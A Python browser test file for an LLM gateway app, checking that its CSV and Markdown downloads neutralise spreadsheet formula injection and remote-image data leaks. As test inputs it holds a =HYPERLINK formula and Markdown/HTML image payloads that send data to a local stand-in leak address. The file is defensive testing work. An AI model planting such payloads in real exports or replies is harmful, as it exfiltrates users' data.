"""Exports cannot attack their reader (#29), downloaded in Chromium as an analyst would.

- /compare with `formula-reply` (a reply that is `=HYPERLINK(…)`) and `upstream-verbatim` (the prompt back exactly),
  prompt `=1+2`: the CSV download, read with Python's `csv` module, has no cell a spreadsheet would run; the formula
  texts are there, behind an apostrophe.
- /chat with `upstream-verbatim`, the reply holding a remote Markdown image: the Markdown download, rendered by a
  CommonMark renderer, holds no image and no raw HTML; the address is there as text.
- /models: the table's own toolbar offers no "Download as CSV" (Streamlit writes those cells verbatim); the page's
  own CSV button does (and is inert).
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from markdown_it import MarkdownIt

from gateway.markdown import live_content
from gateway.safe_csv import is_formula
from tests.support.browser import new_context, open_page, wait_idle

pytestmark = [pytest.mark.browser, pytest.mark.proxy]

PROMPT = "[data-testid='stChatInput'] textarea"
MESSAGES = "[data-testid='stChatMessage']"
HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/leak?d="&A2,"Details")'
LEAK = "http://127.0.0.1:9/md-leak?d=secret-q3"


def download(page, label: str) -> str:
    with page.expect_download() as info:
        page.get_by_role("button", name=label, exact=True).click()
    return info.value.path().read_text(encoding="utf-8")


def formula_cells(text: str) -> list[str]:
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            try:
                float(cell)
            except ValueError:
                if is_formula(cell):
                    found.append(cell)
    return found


@pytest.fixture
def downloads(browser):
    context = new_context(browser, accept_downloads=True)
    yield context.new_page()
    context.close()


def test_a_comparison_with_formula_reply_and_prompt_downloads_as_inert_csv(app, downloads):
    page = downloads
    open_page(page, app.url + "/compare?models=formula-reply,upstream-verbatim")
    page.locator(PROMPT).wait_for()
    page.locator(PROMPT).fill("=1+2")
    page.locator(PROMPT).press("Enter")
    page.get_by_text("Difference between two replies").wait_for()
    wait_idle(page)

    text = download(page, "CSV")
    assert formula_cells(text) == [], formula_cells(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    replies = {row["model"]: row["reply"] for row in rows}
    assert replies == {"formula-reply": "'" + HYPERLINK, "upstream-verbatim": "'=1+2"}
    assert {row["prompt"] for row in rows} == {"'=1+2"}
    assert all(float(row["total"]) > 0 for row in rows)  # numbers stay numbers


def test_a_chat_reply_with_a_remote_image_downloads_as_markdown_without_it(app, downloads):
    page = downloads
    open_page(page, app.url + "/chat?model=upstream-verbatim")
    page.locator(PROMPT).wait_for()
    page.locator(PROMPT).fill(f"Q3 is up. ![q3 chart]({LEAK}) <img src=\"{LEAK}&html\">")
    page.locator(PROMPT).press("Enter")
    page.locator(MESSAGES).nth(1).get_by_text("TTFT").wait_for()
    wait_idle(page)

    text = download(page, "Markdown")
    assert live_content(text) == []
    for html in (True, False):
        rendered = MarkdownIt("commonmark", {"html": html}).enable("table").render(text)
        assert not re.search(r"<img\b|<[^>]*\ssrc=", rendered), rendered  # the raw HTML shows as text
    assert f"`[image: q3 chart]({LEAK})`" in text  # the address is there, to read
    assert "Q3 is up." in text


def test_the_catalogue_table_has_no_toolbar_download_but_the_page_has_an_inert_one(app, downloads):
    page = downloads
    open_page(page, app.url + "/models")
    table = page.locator("[data-testid='stDataFrame']").first
    table.wait_for()
    table.hover()
    toolbar = page.locator("[data-testid='stElementToolbar']").first
    toolbar.wait_for(state="attached")
    assert page.get_by_role("button", name="Download as CSV").count() == 0
    assert toolbar.get_by_role("button").count() >= 1  # the toolbar is there (search, fullscreen), without export
    text = download(page, "Download CSV")
    assert formula_cells(text) == [] and "formula-reply" in text
